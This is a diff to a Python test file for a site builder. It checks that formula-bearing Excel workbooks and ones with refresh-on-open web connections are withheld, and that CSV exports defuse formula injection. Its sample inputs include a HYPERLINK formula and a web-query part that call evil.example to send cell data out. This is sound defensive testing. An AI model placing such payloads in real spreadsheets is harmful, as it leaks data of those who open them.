@@ -90,13 +90,43 @@ def test_a_workbook_with_formulas_is_offered_only_as_csv(make_site, run_cli, tmp
     assert "XLSX" not in (out / "data" / "index.html").read_text(encoding="utf-8")
     # The sheet stored elsewhere than xl/worksheets/ (its relations say where: Excel follows them), its formula
     # written with a namespace prefix: still not offered.
-    make_site({"data/pelatihan.xlsx": _moved_sheet(_with_saved_formula(saved, "B3", "10+5"))}, base=False)
+    for moved in ("xl/lembar/data.xml", "xl/lembar/data.dat"):  # a part's name may end as it likes
+        make_site({"data/pelatihan.xlsx": _moved_sheet(_with_saved_formula(saved, "B3", "10+5"), moved)}, base=False)
+        assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
+        assert not (out / "data" / "pelatihan.xlsx").exists(), moved
+    # A web query that Excel refreshes on opening, without any formula: not offered either.
+    make_site({"data/pelatihan.xlsx": _with_part(saved, "xl/connections.xml", b'<connections><connection id="1" '
+                                                 b'refreshOnLoad="1"><webPr url="https://evil.example/q"/>'
+                                                 b"</connection></connections>")}, base=False)
     assert run_cli("build", "--site", site, "--out", out, "--quiet").code == 0
     assert not (out / "data" / "pelatihan.xlsx").exists()
 
 
-def _moved_sheet(data: bytes) -> bytes:
-    """The workbook with its first sheet at xl/lembar/data.xml, its <f> written <x:f>."""
+def _with_part(data: bytes, name: str, content: bytes) -> bytes:
+    import zipfile
+
+    source, target = io.BytesIO(data), io.BytesIO()
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
+        for info in old.infolist():
+            new.writestr(info.filename, old.read(info.filename))
+        new.writestr(name, content)
+    return target.getvalue()
+
+
+def test_a_column_name_a_spreadsheet_would_run_is_made_plain_in_the_download():
+    from types import SimpleNamespace
+
+    import pandas as pd
+
+    from buletin.outputs.downloads import table_csv
+
+    frame = pd.DataFrame([["=1+2", "7401"]], columns=['=HYPERLINK("https://evil.example/?"&A2,"jenis")', "kode"])
+    assert table_csv(SimpleNamespace(frame=frame)).decode().splitlines() == [
+        '"\'=HYPERLINK(""https://evil.example/?""&A2,""jenis"")",kode', "'=1+2,7401"]
+
+
+def _moved_sheet(data: bytes, to: str = "xl/lembar/data.xml") -> bytes:
+    """The workbook with its first sheet at `to`, its <f> written <x:f>."""
     import zipfile
 
     source, target = io.BytesIO(data), io.BytesIO()
@@ -105,10 +135,10 @@ def _moved_sheet(data: bytes) -> bytes:
             part = old.read(info.filename)
             name = info.filename
             if name == "xl/worksheets/sheet1.xml":
-                name = "xl/lembar/data.xml"
+                name = to
                 main = b'<worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                 part = part.replace(b"<f>", b"<x:f>").replace(b"</f>", b"</x:f>").replace(b"<worksheet ", main, 1)
-            part = part.replace(b"worksheets/sheet1.xml", b"lembar/data.xml")
+            part = part.replace(b"worksheets/sheet1.xml", to.removeprefix("xl/").encode())
             new.writestr(name, part)
     return target.getvalue()
 
